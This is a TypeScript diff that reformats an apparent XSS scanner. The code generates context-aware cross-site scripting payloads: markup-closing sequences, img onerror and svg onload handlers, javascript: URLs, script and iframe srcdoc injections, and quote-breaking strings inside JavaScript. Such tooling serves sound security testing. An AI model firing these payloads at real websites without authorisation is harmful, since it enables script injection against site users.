@@ -8,7 +8,10 @@ const image = (call: string) => `<img src onerror=${call}>`;
 function endOfMarkup(before: string): string {
   const comment = before.lastIndexOf('<!--');
   if (comment > before.lastIndexOf('-->')) return '-->';
-  const raw = /<(title|textarea|style|script|noscript|xmp|iframe|select|template)\b[^>]*>(?:(?!<\/\1)[\s\S])*$/i.exec(before);
+  const raw =
+    /<(title|textarea|style|script|noscript|xmp|iframe|select|template)\b[^>]*>(?:(?!<\/\1)[\s\S])*$/i.exec(
+      before,
+    );
   const open = before.lastIndexOf('<');
   const within = /^<[a-z][^>]*$/i.test(before.slice(open)) && open >= 0 ? before.slice(open) : null;
   if (within === null) return raw ? `</${raw[1]!.toLowerCase()}>` : '';
@@ -43,7 +46,13 @@ function codePayloads(before: string, call: string): string[] {
   const quote = openString(before);
   if (quote === '`') return [`\${${call}}`, `\`-${call}-\``];
   if (quote !== '')
-    return [`${quote}-${call}-${quote}`, `${quote});${call}//`, `${quote};${call}//`, `\\${quote}-${call}}//`, `\\${quote});${call}//`];
+    return [
+      `${quote}-${call}-${quote}`,
+      `${quote});${call}//`,
+      `${quote};${call}//`,
+      `\\${quote}-${call}}//`,
+      `\\${quote});${call}//`,
+    ];
   return [call, `0;${call}`, `${call}//`, `0);${call}//`];
 }
 
@@ -55,14 +64,18 @@ export function payloadsFor(sink: Sink, mark: string, id: string): string[] {
     case 'html': {
       const inHandler = handler(before);
       const end = endOfMarkup(before);
-      const inAddress = /<(a|iframe|form|area)\b[^>]*\s(href|src|action)\s*=\s*["']?$/i.test(before.slice(-300));
+      const inAddress = /<(a|iframe|form|area)\b[^>]*\s(href|src|action)\s*=\s*["']?$/i.test(
+        before.slice(-300),
+      );
       const quote = /^["']/.exec(end)?.[0] ?? '';
       return [
         ...(inHandler ? codePayloads(inHandler.code, call) : []),
         `${end}${image(call)}`,
         ...(inAddress ? [`javascript:${call}`] : []),
         `${end}<svg/onload=${mark}\`${id}\`>`,
-        ...(end === '' ? [] : [`${quote} onerror=${call} onmouseover=${call} x=${quote}`, `${quote}onerror=${quote}${call}`]),
+        ...(end === ''
+          ? []
+          : [`${quote} onerror=${call} onmouseover=${call} x=${quote}`, `${quote}onerror=${quote}${call}`]),
         `${end}<iframe srcdoc="<script>${call}</script>"></iframe>`,
         `${end}<script>${call}</script>`,
         `'"></title></textarea></select></script>-->${image(call)}`,
